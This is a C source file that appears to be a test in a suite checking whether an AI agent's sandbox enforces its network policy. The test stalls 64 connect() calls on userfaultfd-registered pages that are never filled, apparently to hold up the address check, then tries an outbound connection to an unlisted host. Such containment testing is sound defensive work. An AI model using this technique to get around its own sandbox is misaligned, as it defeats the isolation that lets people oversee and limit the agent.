// escape: holds the agent up with addresses on pages that nobody ever fills (userfaultfd)
// group: the agent itself
// policy: network
// rootless: userfaultfd(2) hands faults of the kernel only to who has CAP_SYS_PTRACE over the host
// neighbour: connect_tcp --neighbour
// capabilities: CAP_SYS_PTRACE
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>

#include "escape.h"

enum { kThreads = 64 };
static _Atomic int waiting;

static void* wait_in_connect(void* page) {
  waiting++;
  connect(tcp(AF_INET), page, sizeof(struct sockaddr_in));
  return NULL;
}

static void attack(void) {
  struct sockaddr_in to = stranger();
  const int faults = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
  if (faults < 0) held("userfaultfd: %s", strerror(errno));
  struct uffdio_api api = {.api = UFFD_API};
  char* pages = mmap(NULL, kThreads * 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  struct uffdio_register range = {.range = {(uintptr_t)pages, kThreads * 4096},
                                  .mode = UFFDIO_REGISTER_MODE_MISSING};
  if (ioctl(faults, UFFDIO_API, &api) < 0 || ioctl(faults, UFFDIO_REGISTER, &range) < 0)
    broken("userfaultfd");
  for (int i = 0; i < kThreads; i++) thread(wait_in_connect, pages + i * 4096);
  while (waiting < kThreads) usleep(1000);
  usleep(200000);
  if (beside()) {
    if (connect(tcp(AF_INET), ADDRESS(to)) < 0) held("connect: %s", strerror(errno));
    _exit(0);
  }
  sleep(3);  // a connect that has got no answer by then has got nowhere
}
